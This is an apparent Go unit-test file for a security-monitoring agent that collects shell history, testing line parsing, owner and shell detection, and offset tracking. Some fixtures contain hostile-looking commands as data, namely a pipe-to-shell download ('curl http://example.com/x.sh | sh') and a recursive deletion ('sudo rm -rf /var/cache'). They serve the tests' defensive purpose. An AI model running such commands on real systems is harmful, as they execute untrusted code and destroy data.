package agent

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/argus-siem/argus/internal/store"
)

func TestParseHistoryLine(t *testing.T) {
	now := time.Date(2025, 6, 10, 12, 0, 0, 0, time.UTC)

	cmd, ts := parseHistoryLine("ls -la /tmp", now)
	assert.Equal(t, "ls -la /tmp", cmd)
	assert.Equal(t, now, ts)

	cmd, ts = parseHistoryLine(": 1717977600:0;sudo rm -rf /var/cache", now)
	assert.Equal(t, "sudo rm -rf /var/cache", cmd)
	assert.Equal(t, time.Unix(1717977600, 0).UTC(), ts)

	// bash HISTTIMEFORMAT marker lines carry no command.
	cmd, _ = parseHistoryLine("#1717977600", now)
	assert.Empty(t, cmd)

	// Plain comments are still commands the user typed.
	cmd, _ = parseHistoryLine("# remember to rotate keys", now)
	assert.Equal(t, "# remember to rotate keys", cmd)

	cmd, _ = parseHistoryLine("   ", now)
	assert.Empty(t, cmd)
}

func TestHistoryOwner(t *testing.T) {
	assert.Equal(t, "alice", historyOwner("/home/alice/.bash_history"))
	assert.Equal(t, "root", historyOwner("/root/.zsh_history"))
	assert.Equal(t, "", historyOwner("/tmp/whatever"))
}

func TestShellFromPath(t *testing.T) {
	assert.Equal(t, "bash", shellFromPath("/home/a/.bash_history"))
	assert.Equal(t, "zsh", shellFromPath("/home/a/.zsh_history"))
	assert.Equal(t, "fish", shellFromPath("/home/a/.fish_history"))
}

func TestHistoryCollectorEmitsOnlyNewCommands(t *testing.T) {
	dir := t.TempDir()
	hist := filepath.Join(dir, ".bash_history")
	require.NoError(t, os.WriteFile(hist, []byte("old command one\nold command two\n"), 0o600))

	var got []store.CommandRecord
	h := NewHistoryCollector([]string{hist}, func(r store.CommandRecord) {
		got = append(got, r)
	})

	// First pass primes offsets without replaying history.
	h.scan()
	assert.Empty(t, got)

	f, err := os.OpenFile(hist, os.O_APPEND|os.O_WRONLY, 0o600)
	require.NoError(t, err)
	_, err = f.WriteString("curl http://example.com/x.sh | sh\n")
	require.NoError(t, err)
	require.NoError(t, f.Close())

	h.scan()
	require.Len(t, got, 1)
	assert.Equal(t, "curl http://example.com/x.sh | sh", got[0].Command)
	assert.Equal(t, "bash", got[0].Shell)
}

func TestHistoryCollectorHandlesRewrite(t *testing.T) {
	dir := t.TempDir()
	hist := filepath.Join(dir, ".bash_history")
	require.NoError(t, os.WriteFile(hist, []byte("a\nb\nc\nd\ne\n"), 0o600))

	var got []store.CommandRecord
	h := NewHistoryCollector([]string{hist}, func(r store.CommandRecord) {
		got = append(got, r)
	})
	h.scan()

	// Shell logout rewrote the file shorter; the collector starts over
	// instead of seeking past the end.
	require.NoError(t, os.WriteFile(hist, []byte("x\n"), 0o600))
	h.scan()
	require.Len(t, got, 1)
	assert.Equal(t, "x", got[0].Command)
}
